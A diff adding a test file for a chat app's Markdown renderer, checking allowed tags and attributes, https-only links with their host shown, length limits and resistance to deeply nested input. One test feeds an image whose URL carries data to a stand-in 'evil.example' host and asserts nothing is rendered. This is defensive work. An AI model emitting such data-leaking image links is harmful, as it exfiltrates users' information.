@@ -1,0 +1,71 @@
+import { render } from '@testing-library/react'
+import { describe, expect, test, vi } from 'vitest'
+import { Markdown } from '#features/chat/messages/markdown.tsx'
+import { plainMarkdown } from '#features/chat/messages/plain-markdown.ts'
+import { attacks } from '#test-support/examples/markdown-attacks.ts'
+
+const shown = (source: string) => render(<Markdown source={source} />).container
+const allowed = new Set(['DIV', 'P', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BR', 'A', 'SPAN'])
+const attributes = new Set(['class', 'dir', 'start', 'href', 'target', 'rel'])
+
+describe('what people and models write', () => {
+  test.each([
+    ['a **b** *c* `d`', 'P STRONG EM CODE', 'a b c d'],
+    ['# Big\n\ntext', 'P STRONG P', 'Bigtext'],
+    ['- one\n- two\n  1. deep', 'UL LI P LI P OL LI P', 'onetwodeep'],
+    ['3. three\n4. four', 'OL LI P LI P', 'threefour'],
+    ['```\nlet x\n```', 'PRE CODE', 'let x'],
+    ['> quoted', 'P', 'quoted'],
+    ['a  \nb', 'P BR', 'ab'],
+    ['~~gone~~ here', 'P', 'gone here'],
+    ['|a|b|\n|-|-|\n|1|2|', 'P P', 'a · b1 · 2'],
+    ['---\n\nafter', 'P', 'after'],
+    ['مرحبا **بك**', 'P STRONG', 'مرحبا بك'],
+  ])('%j', (source, elements, words) => {
+    const container = shown(source)
+    const tags = [...container.querySelectorAll('div > *, div > * *')].map((one) => one.tagName)
+    expect(tags.filter((tag) => tag !== 'DIV').join(' ')).toBe(elements)
+    expect(container.textContent).toBe(words)
+  })
+
+  test('a link leads where it says: https alone, with its host beside it, and opens by a press', () => {
+    const link = shown('see [the **docs**](https://example.com/a?b=c)').querySelector('a')
+    expect(link?.getAttribute('href')).toBe('https://example.com/a?b=c')
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    expect(link?.nextElementSibling?.textContent).toBe('(example.com)')
+  })
+
+  test('a picture is only what it is said to show', () => {
+    const container = shown('look ![a chart](https://evil.example/leak.png?balance=5)')
+    expect([container.textContent, container.querySelector('img, a')]).toEqual(['look a chart', null])
+  })
+
+  test('is cut at 8,000 characters, and read aloud without its marks', () => {
+    expect(shown('x'.repeat(9000)).textContent).toHaveLength(8001)
+    expect(plainMarkdown('# Hi\n- **a** `b`\n- [c](https://example.com)')).toBe('Hi\na b\nc (example.com)')
+  })
+
+  test.each(['>', '- ', '1. ', '> - ', '[', '*', '![a]('])('thousands of %j end in words, and soon', (mark) => {
+    vi.spyOn(console, 'error').mockReturnValue()
+    const started = performance.now()
+    expect(shown(`${mark.repeat(7999 / mark.length)}x`).textContent?.length).toBeGreaterThan(0)
+    expect(performance.now() - started).toBeLessThan(5000)
+  })
+})
+
+describe('attacks', () => {
+  test('are many', () => expect(new Set(attacks).size).toBeGreaterThanOrEqual(60))
+
+  test.each(attacks)('%j makes no element, attribute or address beyond ours', (source) => {
+    const container = shown(source)
+    for (const element of container.querySelectorAll('*')) {
+      expect(allowed.has(element.tagName), element.outerHTML).toBe(true)
+      for (const { name } of element.attributes) expect(attributes.has(name), element.outerHTML).toBe(true)
+      const href = element.getAttribute('href')
+      if (href === null) continue
+      expect(href).toMatch(/^https:\/\//)
+      expect(element.textContent && element.nextElementSibling?.textContent).toBe(`(${new URL(href).host})`)
+      expect(new URL(href).username + new URL(href).password).toBe('')
+    }
+  })
+})
